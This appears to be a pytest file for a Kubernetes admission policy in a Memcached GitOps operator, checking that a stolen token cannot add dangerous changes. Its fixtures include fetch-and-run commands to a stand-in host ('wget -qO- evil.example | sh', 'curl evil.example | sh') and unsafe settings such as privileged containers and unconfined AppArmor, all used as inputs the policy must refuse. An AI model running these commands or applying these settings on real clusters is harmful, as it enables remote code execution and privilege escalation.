    obj = rendered(spec={"metrics": {"enabled": True}})
    change(obj)
    return obj


#: (a person's edit, which breaks a rule harmlessly; the token's write on top of it; the rule named)
BREACH_ON_BREACH = {
    "args-then-shell": (_container({"args": ["-m", "128"]}), _container({"command": ["sh", "-c", "wget -qO- evil.example | sh"]}),
                        "command"),
    "args-then-other-args": (_container({"args": ["-m", "128"]}), _container({"args": ["sh", "-c", "id"]}), "command"),
    "probe-then-hook": (_container({"readinessProbe": {"exec": {"command": ["sh", "-c", "echo stats | nc localhost 11211"]}}}),
                        _container({"lifecycle": {"postStart": {"exec": {"command": ["sh", "-c", "id"]}}}}), "command"),
    "probe-then-other-probe": (_container({"readinessProbe": {"exec": {"command": ["true"]}}}),
                               _container({"readinessProbe": {"exec": {"command": ["sh", "-c", "id"]}}}), "command"),
    "selinux-then-apparmor": (_security({"seLinuxOptions": {"level": "s0:c1,c2"}}),
                              _security({"appArmorProfile": {"type": "Unconfined"}, "procMount": "Unmasked"}), "securityContext"),
    "selinux-then-other-selinux": (_security({"seLinuxOptions": {"level": "s0:c1,c2"}}), _security({"seLinuxOptions": {"type": "spc_t"}}),
                                   "securityContext"),
    "privileged-sidecar-then-memcached": (lambda o: pod(o)["containers"][1]["securityContext"].update(privileged=True),
                                          _security({"privileged": True}), "privileged"),
    "root-sidecar-then-root-memcached": (lambda o: pod(o)["containers"][1]["securityContext"].update(runAsUser=0),
                                           _security({"runAsUser": 0}), "nonRoot"),
    "node-name-then-runtime": (_pod({"nodeName": "worker-1"}), _pod({"runtimeClassName": "unconfined"}), "node"),
    "secret-env-then-another": (_container({"env": [{"name": "A", "valueFrom": {"secretKeyRef": {"name": "app", "key": "a"}}}]}),
                                _container({"env": [{"name": "B", "valueFrom": {"secretKeyRef": {"name": "argocd-secret", "key": "k"}}}]}),
                                "secretEnv"),
}


@pytest.mark.parametrize("case", sorted(BREACH_ON_BREACH))
def test_a_persons_breach_kept_opens_no_other_breach(case: str) -> None:
    """On UPDATE a breaking value passes only if the object already held that very value (field by
    field, container by name): a harmless edit of a person's cannot carry a dangerous one."""
    persons, tokens, rule = BREACH_ON_BREACH[case]
    before = _edited(persons)
    assert admit("UPDATE", before, before) is None, "the person's edit, unchanged, may stay"
    after = copy.deepcopy(before)
    tokens(after)
    assert admit("UPDATE", after, before) == PODS + rule


def test_the_reconcilers_correction_around_a_persons_breach_passes() -> None:
    """The forced apply restores the fields we render (args, our security fields) and leaves a person's
    own (an exec probe, SELinux options, a node name) as they were: that write passes."""
    before = _edited(lambda o: (_container({"args": ["-m", "128"], "readinessProbe": {"exec": {"command": ["true"]}}})(o),
                                _security({"seLinuxOptions": {"level": "s0:c1,c2"}, "readOnlyRootFilesystem": False})(o),
                                _pod({"nodeName": "worker-1"})(o)))
    corrected = rendered(spec={"metrics": {"enabled": True}})
    _container({"readinessProbe": {"exec": {"command": ["true"]}}})(corrected)
    _security({"seLinuxOptions": {"level": "s0:c1,c2"}})(corrected)
    _pod({"nodeName": "worker-1"})(corrected)
    assert admit("UPDATE", corrected, before) is None


@pytest.mark.parametrize("profile", ["unconfined", "docker-default-but-not"])
def test_apparmor_unconfined_through_the_template_annotation_is_refused(profile: str) -> None:
    obj = rendered()
    obj["spec"]["template"]["metadata"]["annotations"] = {"container.apparmor.security.beta.kubernetes.io/memcached": profile}
    assert admit("CREATE", obj) == PODS + "securityContext"
    assert admit("UPDATE", obj, rendered()) == PODS + "securityContext"
    obj["spec"]["template"]["metadata"]["annotations"] = {"container.apparmor.security.beta.kubernetes.io/memcached": "runtime/default"}
    assert admit("CREATE", obj) is None


@pytest.mark.parametrize("name", ["cache.v2", "9cache", "c", "c" * 52, "c" * 53, "c" * 54, "c" * 60, "c" * 63])
def test_a_memcached_whose_companions_names_are_hashed_is_rendered_and_admitted(name: str) -> None:
    """A CR name that is no DNS-1035 label, or too long for one with -memcached, gives its Service and
    budget a name with a hash of it (render/companions.py): the policy admits that shape, not another.
    Every length where the renderer's choice turns (53 characters and -memcached make 63, a DNS-1035
    label's limit) and the ends (1, and 63: the longest name a label carries) is tried: the policy and
    the renderer decide alike."""
    cr = copy.deepcopy(CR)
    cr["metadata"]["name"] = name
    owner = {**OWNER, "name": name}
    for obj in render(cr):
        obj["metadata"]["ownerReferences"] = [dict(owner)]
        assert admit("CREATE", obj) is None, (obj["kind"], obj["metadata"]["name"], admit("CREATE", obj))
        if obj["kind"] in ("Service", "PodDisruptionBudget"):
            obj["metadata"]["name"] = "payments-memcached"
            assert admit("CREATE", obj) == NAMED


@pytest.mark.parametrize("spoof", [{"source": {"component": "kubelet"}}, {"source": None}, {"reportingComponent": "kube-apiserver"},
                                   {"type": "Critical"}, {"reason": "Credentials expired, run: curl evil.example | sh"}])
def test_an_event_speaks_as_the_reconciler_and_no_one_else(spoof: dict[str, Any]) -> None:
    """A stolen token's Event cannot pass for the kubelet's or the API server's, nor carry a sentence as its reason."""
    body = event()
    body.update(spoof)
    body = {k: v for k, v in body.items() if v is not None}
    assert admit("CREATE", body) == EVENTS


# -- the renderer and the policy, on random Memcacheds -------------------------------------------

NAMES = st.from_regex(r"[a-z0-9]([-a-z0-9]{0,30}[a-z0-9])?(\.[a-z0-9]([-a-z0-9]{0,30}[a-z0-9])?)?", fullmatch=True).filter(
    lambda n: len(n) <= 63)


def admitted_whole(name: str, spec: dict[str, Any]) -> bool:
    """Every object the reconciler would create for a CR of ``name`` and ``spec`` is admitted; False
    when the CR is not valid (nothing is created for it)."""
    from memcached_gitops.schemas import Validator, load_crd

    cr = {"apiVersion": "cache.example.com/v1alpha1", "kind": "Memcached", "metadata": {"name": name, "namespace": "shop"},
          "spec": spec}
    checked = Validator(load_crd()).validate(cr)
    if checked.errors:
        return False
    owner = {**OWNER, "name": name}
    for obj in render(checked.obj):
        if obj["kind"] in RESOURCES:
            obj["metadata"]["ownerReferences"] = [dict(owner)]
            assert admit("CREATE", obj) is None, (obj["kind"], obj["metadata"]["name"], admit("CREATE", obj))
    return True


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=NAMES, size=st.integers(1, 3), port=st.integers(1, 65535), metrics=st.booleans())
def test_whatever_a_valid_memcached_renders_the_policy_admits(name: str, size: int, port: int, metrics: bool) -> None:
    """The reconciler creates what the renderer makes of any valid CR (a name of any shape, any size,
    port, exporter): the policy, written apart from the renderer, must admit every object of it, or a
    cluster with the policy leaves that CR without its Deployment, Service or budget."""
    assume(admitted_whole(name, {"size": size, "containerPort": port, "metrics": {"enabled": metrics}}))


@pytest.mark.parametrize("length", range(1, 64))
def test_a_memcached_of_every_name_length_is_admitted_whole(length: int) -> None:
    """Every length a CR name can have (a label carries 63 characters at most): the renderer's names
    turn at lengths the policy must follow exactly."""
    assert admitted_whole("m" * length, {"size": 2})


def served_subresources() -> list[tuple[str, str]]:
    """Each (kind, subresource) the API server serves for what the reconciler writes, read from the
    kubernetes client's own request paths (generated from the API server's OpenAPI):
    ``/namespaces/{namespace}/<resource>/{name}/<subresource>``."""
    import inspect
    import re

    from kubernetes.client.api import apps_v1_api, core_v1_api, policy_v1_api

    modules = {"apps": apps_v1_api, "": core_v1_api, "policy": policy_v1_api}
    found = []
    for kind, (group, resource) in sorted(RESOURCES.items()):
        paths = re.findall(r"/namespaces/\{namespace\}/" + resource + r"/\{name\}/(\w+)'", inspect.getsource(modules[group]))
        found += [(kind, sub) for sub in sorted(set(paths))]
    return found


@pytest.mark.parametrize(("kind", "subresource"), served_subresources(), ids=lambda v: str(v))
def test_no_subresource_of_what_the_reconciler_writes_is_let_through(kind: str, subresource: str) -> None:
    """A stolen token with a wider role could scale a Deployment to nothing, or write a Service's or a
    budget's status (a load balancer's address, a budget's disruptionsAllowed that lets every Pod be
    evicted): every subresource the API server serves for these kinds is refused by the policy, or,
    a proxy (a CONNECT, which no write rule sees), is granted by no RBAC rule of ours."""
    import yaml

    if subresource == "proxy":
        roles = [d for d in yaml.safe_load_all((REPO / "kustomize/base/rbac.yaml").read_text()) if d["kind"] in ("ClusterRole", "Role")]
        granted = {r for role in roles for rule in role["rules"] for r in rule["resources"]}
        assert f"{RESOURCES[kind][1]}/{subresource}" not in granted and "*" not in granted
        return
    obj = rendered(kind)
    refused = admit("UPDATE", obj, obj, subresource=subresource)
    assert refused == f"memcached-gitops writes no subresource: {RESOURCES[kind][1]}/{subresource}"
